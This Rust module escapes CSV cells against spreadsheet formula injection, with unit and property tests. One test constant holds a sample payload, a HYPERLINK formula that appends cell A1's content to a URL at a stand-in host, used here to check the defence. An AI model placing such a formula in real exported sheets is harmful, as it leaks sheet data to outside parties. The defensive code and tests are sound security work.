//! Cells for the sheets we write, which no spreadsheet program can mistake for a formula.
//!
//! A spreadsheet program runs a CSV cell that begins with `=`, `+`, `-` or `@` as a formula, and a formula can send the
//! sheet's content to a stranger. Names of fields and roles, and values that people enter, may begin like that. A
//! [`SafeCell`] puts an apostrophe before such a beginning, which turns it into text. [`original`] removes the
//! apostrophe when a sheet is read, so our own sheets are read back unchanged.
//!
//! A program whose separator is not our comma splits cells in other places: at `;` (as in Germany), at a tab, or at a
//! line end within quotes. So text after such a character also counts as the beginning of a cell. Like these programs,
//! we skip spaces, invisible characters and quotes before a formula.

use std::borrow::Cow;

/// A cell that is safe in any sheet.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SafeCell(String);

impl SafeCell {
    /// Makes a text cell. Text that looks like a number, such as `-5` or `0.5`, stays a number.
    pub fn text(text: &str) -> SafeCell {
        if is_number(text) {
            return SafeCell(text.to_owned());
        }
        let mut written = String::with_capacity(text.len() + 1);
        if begins_with_separator(text) {
            written.push('\'');
        }
        for part in parts(text) {
            if would_run(part) {
                written.push('\'');
            }
            written.push_str(part);
        }
        SafeCell(written)
    }

    /// Formats the cell for a CSV file (RFC 4180).
    fn quoted(&self) -> Cow<'_, str> {
        let SafeCell(text) = self;
        if text.contains([',', ';', '\t', '"', '\r', '\n']) {
            Cow::Owned(format!("\"{}\"", text.replace('"', "\"\"")))
        } else {
            Cow::Borrowed(text)
        }
    }
}

/// Writes a CSV file that spreadsheet programs read correctly, in UTF-8 with a byte order mark.
pub fn csv(rows: &[Vec<SafeCell>]) -> String {
    let mut file = "\u{feff}".to_owned();
    for row in rows {
        let cells: Vec<Cow<'_, str>> = row.iter().map(SafeCell::quoted).collect();
        file.push_str(&cells.join(","));
        file.push_str("\r\n");
    }
    file
}

/// Undoes [`SafeCell::text`]. A cell that needed no apostrophe stays as it is.
pub fn original(cell: &str) -> Cow<'_, str> {
    if !cell.contains('\'') {
        return Cow::Borrowed(cell);
    }
    let cell = cell
        .strip_prefix('\'')
        .filter(|rest| begins_with_separator(rest))
        .unwrap_or(cell);
    let original = |part| match str::strip_prefix(part, '\'') {
        Some(rest) if would_run(rest) => rest,
        _ => part,
    };
    Cow::Owned(parts(cell).map(original).collect())
}

/// Splits a text into the parts that a program with any separator could read as cells. Separators are returned as parts
/// of their own.
fn parts(text: &str) -> impl Iterator<Item = &str> {
    let is_separator = |c: char| matches!(c, ';' | '\t' | '\r' | '\n');
    text.split_inclusive(is_separator).flat_map(move |part| {
        let cell = part.trim_end_matches(is_separator);
        let (cell, separator) = part.split_at(cell.len());
        [cell, separator]
    })
}

/// Whether a text, with or without leading apostrophes, begins with something that programs drop or split at.
fn begins_with_separator(text: &str) -> bool {
    text.trim_start_matches('\'').starts_with(['\t', '\r', '\n'])
}

/// Whether a program could run this as a formula: a character that starts one, after any that are skipped. Apostrophes
/// are skipped too, so adding one never makes a dangerous text look harmless.
fn would_run(cell: &str) -> bool {
    cell.trim_start_matches(is_skipped)
        .starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠'])
}

fn is_skipped(character: char) -> bool {
    character.is_whitespace()
        || character.is_control()
        || matches!(character, '\'' | '"' | '`' | '‘' | '’' | '“' | '”' | '＇' | '＂')
        || matches!(character, '\u{ad}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2069}' | '\u{feff}')
}

/// Digits with an optional minus and fraction. A plus is not part of a number, because phone numbers begin with it and
/// a program would drop it.
fn is_number(text: &str) -> bool {
    let digits = text.strip_prefix('-').unwrap_or(text);
    let (whole, fraction) = digits.split_once('.').unwrap_or((digits, "0"));
    let are_digits = |text: &str| !text.is_empty() && text.bytes().all(|byte| byte.is_ascii_digit());
    are_digits(whole) && are_digits(fraction)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{SheetCell, SheetLimits, read};
    use proptest::prelude::*;

    const LINK: &str = "=HYPERLINK(\"http://example.com?\"&A1,\"Click\")";

    fn written(text: &str) -> String {
        SafeCell::text(text).0
    }

    #[test]
    fn what_a_program_would_run_has_an_apostrophe_before_it() {
        for text in [
            LINK,
            "=1",
            "+1+1",
            "+821012345678",
            "-1+1",
            "-5-",
            "@SUM(A1)",
            " =1",
            "\u{a0}=1",
            "\u{3000}＝1",
            "\u{200b}=1",
            "\"=1",
            "“=1",
            "\u{feff}@x",
            "＠x",
            "\tx",
            "\rx",
            "\nx",
            "'=1",
        ] {
            assert_eq!(written(text), format!("'{text}"), "{text:?}");
            assert_eq!(original(&written(text)), text);
        }
        assert_eq!(written("a;=1\n +2\t@b"), "a;'=1\n' +2\t'@b");
    }

    #[test]
    fn what_no_program_would_run_stays_as_it_is() {
        for text in [
            "",
            "김민준",
            "a=1",
            "a-b",
            "1.name",
            "field:x",
            "-5",
            "-0.5",
            "0",
            "1.50",
            "'quoted'",
            "a;b",
            "a@example.com",
        ] {
            assert_eq!(written(text), text);
            assert_eq!(original(text), text);
        }
    }

    /// Splits a file as a program would that uses another separator or ignores quotes.
    fn cells_of_any_program(file: &str) -> Vec<String> {
        let mut cells = Vec::new();
        for separator in [',', ';', '\t'] {
            for line in file.split(['\r', '\n']) {
                cells.extend(line.split(separator).map(str::to_owned));
            }
        }
        cells
    }

    fn text() -> impl Strategy<Value = String> {
        let pieces = prop_oneof![
            Just("="),
            Just("+"),
            Just("-"),
            Just("@"),
            Just("＝"),
            Just("'"),
            Just("\""),
            Just(" "),
            Just("\t"),
            Just("\r"),
            Just("\n"),
            Just(";"),
            Just("1"),
            Just("a"),
            Just("\u{200b}"),
            Just("\u{3000}"),
        ];
        prop::collection::vec(pieces, 0..8).prop_map(|pieces| pieces.concat())
    }

    proptest! {
        #[test]
        fn a_sheet_that_we_wrote_reads_as_what_it_was_made_of(texts in prop::collection::vec(text(), 1..4)) {
            let rows = vec![
                texts.iter().enumerate().map(|(at, _)| SafeCell::text(&format!("c{at}"))).collect(),
                texts.iter().map(|text| SafeCell::text(text)).collect(),
            ];
            let sheet = read(csv(&rows).as_bytes(), &SheetLimits::default()).expect("it is read");
            // Empty rows and trailing empty cells are dropped.
            let read: Vec<SheetCell> = sheet.rows.first().map(|row| row.cells.clone()).unwrap_or_default();
            for (at, text) in texts.iter().enumerate() {
                let cell = read.get(at).cloned().unwrap_or(SheetCell::Text(String::new()));
                let is_blank = text.trim().is_empty();
                prop_assert!(cell == SheetCell::Text(text.clone()) || is_blank, "{text:?} {cell:?}");
            }
        }

        #[test]
        fn no_program_finds_a_formula_in_what_we_wrote(texts in prop::collection::vec(text(), 1..4)) {
            let rows = vec![texts.iter().map(|text| SafeCell::text(text)).collect()];
            for cell in cells_of_any_program(&csv(&rows)) {
                let seen = cell.trim_start_matches(|c: char| is_skipped(c) && c != '\'');
                let is_harmless = is_number(seen.split(',').next().unwrap_or_default());
                prop_assert!(is_harmless || !seen.starts_with(['=', '+', '-', '@', '＝']), "{texts:?}: {cell:?}");
            }
        }
    }
}
